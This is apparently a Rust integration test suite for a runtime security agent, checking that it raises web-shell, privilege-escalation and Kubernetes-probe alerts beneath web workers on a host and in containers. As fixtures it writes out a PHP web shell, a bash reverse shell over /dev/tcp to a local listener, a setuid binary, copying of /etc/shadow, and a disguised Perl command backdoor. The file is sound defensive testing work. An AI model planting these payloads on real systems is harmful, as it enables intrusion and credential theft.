//! What runs below a web application: `Web shell detected` and `Attempt to run high privilege command detected`.

use serde_json::{Value, json};

use crate::{
    dockerd::Dockerd,
    ocsf::{brief, command_line, container_id, exe, fact, has_signal, level, pid, title},
    tocsin::Tocsin,
    web_host::WebHost,
};

const SHELL: &str = "Web shell detected";
const PRIVILEGE: &str = "Attempt to run high privilege command detected";
const KUBERNETES: &str = "Suspicious request to Kubernetes API";

/// A page that runs what it is told: the classic.
const PAGE: &str = "<?php system($_GET['c']);";

/// A host whose PHP has a name of its own and listens where nobody else does.
fn host_with_page() -> Option<WebHost> {
    let host = WebHost::start()?;
    host.write("/srv/www/page.php", PAGE);
    host.start_php_fpm("/opt/site/worker", "127.0.0.1:9000");
    host.start_nginx("127.0.0.1:9000");
    Some(host)
}

fn ask(host: &WebHost, at: &str, command: &str) -> String {
    host.get(&format!("http://127.0.0.1{at}"), &[("c", command)])
}

/// The levels of the alerts of that title whose command line holds the text, the first of each subject.
fn levels<'a>(alerts: &'a [Value], wanted: &str, text: &str) -> Vec<&'a str> {
    let about = alerts
        .iter()
        .filter(|alert| title(alert) == wanted && command_line(alert).contains(text));
    about.map(level).collect()
}

#[test]
fn a_web_shell_is_known_by_what_its_worker_does() {
    let Some(host) = host_with_page() else { return };
    host.start_python(8000);
    let agent = Tocsin::start(&[]);
    // This one starts while the agent watches, the others stood before.
    host.start_java(8080);
    let mark = std::process::id();
    let cases = [
        ("/page.php", "/opt/site/worker"),
        (":8000/", "/usr/bin/python3.11"),
        (":8080/", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"),
    ];
    for (at, worker) in cases {
        let commands = format!("id; uname -a; whoami; : {mark}{at}");
        assert!(ask(&host, at, &commands).contains("www-data"));
        let alert = agent.wait_for_alert(SHELL, |alert| command_line(alert).ends_with(&commands));
        assert_eq!(
            (level(&alert), exe(&alert)),
            ("High", "/usr/bin/dash"),
            "{}",
            brief(&alert)
        );
        assert_eq!(fact(&alert, "web_worker.image"), worker, "{}", brief(&alert));
        assert_eq!(fact(&alert, "web_worker.uid"), 33, "{}", brief(&alert));
        assert!(fact(&alert, "web_worker.pid").is_u64(), "{}", brief(&alert));
    }
}

#[test]
fn depth_and_harmless_words_hide_nothing() {
    let Some(host) = host_with_page() else { return };
    let agent = Tocsin::start(&["--dedup", "0"]);
    let mark = std::process::id();
    // A pair of quotation marks for each shell would be hard to read.
    host.write(
        "/srv/deep.sh",
        &format!("[ $1 = 0 ] && sh -c 'id; : deep{mark}' || sh /srv/deep.sh $(($1 - 1))\n"),
    );
    ask(&host, "/page.php", "sh /srv/deep.sh 5");
    ask(
        &host,
        "/page.php",
        &format!("/usr/bin/curl -s http://127.0.0.1/healthcheck?status={mark}"),
    );
    // No shell at all: PHP runs each by itself.
    host.write(
        "/srv/www/burst.php",
        "<?php foreach (['id', 'uname', 'whoami'] as $tool) { $open[] = proc_open([$tool], [], $pipes); }",
    );
    host.get("http://127.0.0.1/burst.php", &[]);
    agent.wait_for_alert(SHELL, |alert| {
        command_line(alert).contains(&format!("deep{mark}")) && fact(alert, "web_worker.image") == "/opt/site/worker"
    });
    agent.wait_for_alert(SHELL, |alert| command_line(alert).ends_with(&format!("status={mark}")));
    let burst = agent.wait_for_alert(SHELL, |alert| {
        crate::ocsf::rule(alert) == "web-shell-recon" && is_ours(alert)
    });
    assert_eq!(level(&burst), "Medium", "{}", brief(&burst));
}

/// Whether it is about this test's own worker, of which no other test has the like.
fn is_ours(alert: &Value) -> bool {
    fact(alert, "web_worker.image") == "/opt/site/worker"
}

#[test]
fn a_shell_that_talks_to_a_connection_is_critical() {
    let Some(host) = WebHost::start() else { return };
    host.start_python(8000);
    host.run("nc -l 127.0.0.1 4446 >/dev/null 2>&1 &");
    let agent = Tocsin::start(&[]);
    ask(
        &host,
        ":8000/",
        "setsid timeout 5 bash -c 'bash -i >& /dev/tcp/127.0.0.1/4446 0>&1'",
    );
    let alert = agent.wait_for_alert(SHELL, |alert| {
        command_line(alert) == "bash -i" && has_signal(alert, "reverse-shell-descriptors")
    });
    assert_eq!(level(&alert), "Critical", "{}", brief(&alert));
    assert_eq!(fact(&alert, "process.stdin"), "internet-socket", "{}", brief(&alert));
    assert_eq!(fact(&alert, "web_worker.image"), "/usr/bin/python3.11");
}

#[test]
fn pages_do_what_pages_do_in_silence() {
    let Some(host) = host_with_page() else { return };
    let agent = Tocsin::start(&["--dedup", "0"]);
    let mark = std::process::id();
    host.run("mkdir -p /opt/bin; for name in sendmail convert; do printf '#!/bin/sh\\nexit 0\\n' >/opt/bin/$name; done; chmod +x /opt/bin/*");
    for command in [
        "/opt/bin/sendmail -t -i -f shop@MARK.invalid",
        "/opt/bin/convert in.png -resize 50% MARK.png 2>&1",
    ] {
        ask(&host, "/page.php", &command.replace("MARK", &mark.to_string()));
    }
    host.run(&format!(
        "nginx -t -g 'env M{mark};'; nginx -s reload; /opt/site/worker -t --fpm-config /etc/php-fpm.conf"
    ));
    // Somebody logs in and looks around.
    host.run(&format!("sh -c 'id; uname -a; sudo -n true; : login{mark}'"));
    let alerts = agent.alerts_after_quiet();
    for text in [
        format!("@{mark}"),
        format!("{mark}.png"),
        format!("M{mark}"),
        format!("login{mark}"),
    ] {
        for wanted in [SHELL, PRIVILEGE] {
            assert_eq!(levels(&alerts, wanted, &text), [] as [&str; 0], "{wanted} about {text}");
        }
    }
}

#[test]
fn what_runs_below_a_worker_at_start_up_is_found() {
    let Some(host) = host_with_page() else { return };
    let mark = format!("{}", std::process::id());
    let _asked = host.leave_running("http://127.0.0.1/page.php", &format!("sleep 100; id; : {mark}"));
    let agent = Tocsin::start(&[]);
    let alert = agent.wait_for_alert(SHELL, |alert| command_line(alert).ends_with(&mark));
    assert_eq!(fact(&alert, "event.startup"), true, "{alert:#}");
    assert_eq!(
        (fact(&alert, "web_worker.image"), fact(&alert, "web_worker.uid")),
        (&json!("/opt/site/worker"), &json!(33))
    );
}

#[test]
fn an_attempt_at_root_counts_and_success_is_critical() {
    let Some(host) = host_with_page() else { return };
    host.run("cp /usr/bin/env /opt/rooted; chmod 4755 /opt/rooted");
    let agent = Tocsin::start(&["--dedup", "0"]);
    let mark = std::process::id();
    for command in [
        "sudo -n true MARK",
        "cp /etc/shadow /srv/MARK",
        "/opt/rooted true MARK",
        r#"sh -c "sh -c 'sh -c \"su -c id deepMARK; :\"; :'; :""#,
    ] {
        ask(&host, "/page.php", &command.replace("MARK", &mark.to_string()));
    }
    let expected = [
        (format!("sudo -n true {mark}"), "/usr/bin/sudo", "Medium"),
        (format!("su -c id deep{mark}"), "/usr/bin/su", "Medium"),
        (format!("cp /etc/shadow /srv/{mark}"), "/usr/bin/cp", "Medium"),
        (format!("/opt/rooted true {mark}"), "/opt/rooted", "Critical"),
        (format!("true {mark}"), "/usr/bin/true", "Critical"),
    ];
    for (line, program, grade) in expected {
        let alert = agent.wait_for_alert(PRIVILEGE, |alert| command_line(alert) == line && exe(alert) == program);
        assert_eq!(
            (level(&alert), fact(&alert, "web_worker.uid")),
            (grade, &json!(33)),
            "{}",
            brief(&alert)
        );
        assert_eq!(fact(&alert, "web_worker.image"), "/opt/site/worker");
    }
}

#[test]
fn the_same_in_a_container() {
    let Some(dockerd) = Dockerd::start() else { return };
    let image = dockerd.import_web();
    let agent = Tocsin::start(&["--docker-socket", &dockerd.socket()]);
    let server = "import http.server, subprocess\n\
        class Page(http.server.BaseHTTPRequestHandler):\n    \
        def do_GET(self):\n        \
        self.send_response(200); self.end_headers()\n        \
        self.wfile.write(subprocess.run(['sh', '-c', 'id; whoami; sudo -n true; curl -s -m 1 http://10.96.0.1:443/version'], capture_output=True).stdout)\n\
        http.server.HTTPServer(('', 8000), Page).serve_forever()";
    let told_api = "KUBERNETES_SERVICE_HOST=10.96.0.1";
    let options = ["--network", "none", "--user", "www-data", "--env", told_api];
    let id = dockerd.run("site", &options, &[image, "python3", "-c", server]);
    dockerd.wait_for_listener(&id, 8000);
    let asked = dockerd.docker_ok(&["exec", "site", "curl", "-s", "http://127.0.0.1:8000/"]);
    assert!(asked.contains("www-data"), "{asked}");
    let first = agent.wait_for_alert(SHELL, |alert| container_id(alert) == id);
    assert_eq!(fact(&first, "web_worker.uid"), 33, "{}", brief(&first));
    agent.wait_for_alert(PRIVILEGE, |alert| container_id(alert) == id);
    let request = agent.wait_for_alert(KUBERNETES, |alert| container_id(alert) == id);
    assert!(has_signal(&request, "web-worker"), "{}", brief(&request));
    // Who asks by `docker exec` is not below the container's first process.
    dockerd.docker_ok(&["exec", "site", "sh", "-c", "id; whoami; : outside"]);
    let alerts = agent.alerts_after_quiet();
    assert_eq!(levels(&alerts, SHELL, "outside"), [] as [&str; 0]);
    let worker = fact(&first, "web_worker.pid").as_u64();
    assert!(
        alerts.iter().all(|alert| pid(alert) != worker || title(alert) != SHELL),
        "the worker itself"
    );
}

#[test]
fn a_service_that_nobody_knows_for_a_web_server_is_heard_in_a_container() {
    let Some(dockerd) = Dockerd::start() else { return };
    let image = dockerd.import_web();
    let agent = Tocsin::start(&["--docker-socket", &dockerd.socket()]);
    // Perl stands for what is compiled: its file's name says nothing, either.
    let server = "use IO::Socket::INET;\n\
        my $l = IO::Socket::INET->new(LocalPort => 3333, Listen => 5, ReuseAddr => 1) or die;\n\
        while (my $c = $l->accept) { my $x = <$c>; chomp $x; print $c `$x`; close $c }";
    let run = [
        "sh",
        "-c",
        "cp /usr/bin/perl /usr/bin/shop && exec /usr/bin/shop -e \"$0\"",
        server,
    ];
    let id = dockerd.run("shop", &["--network", "none"], &[&[image][..], &run].concat());
    dockerd.wait_for_listener(&id, 3333);
    let ask = |command: &str| {
        let client = format!("exec 3<>/dev/tcp/127.0.0.1/3333; echo '{command}' >&3; cat <&3");
        dockerd.docker_ok(&["exec", "shop", "bash", "-c", &client])
    };
    // What a database does at night.
    ask("test ! -f /archive/1 && : quiet");
    assert!(ask("ping -c 1 203.0.113.7; id; : loud").contains("uid=0"));
    let alert = agent.wait_for_alert(SHELL, |alert| container_id(alert) == id);
    assert_eq!(level(&alert), "Medium", "{}", brief(&alert));
    assert!(command_line(&alert).contains("loud"), "{}", brief(&alert));
    let alerts = agent.alerts_after_quiet();
    assert_eq!(levels(&alerts, SHELL, "quiet"), [] as [&str; 0]);
}
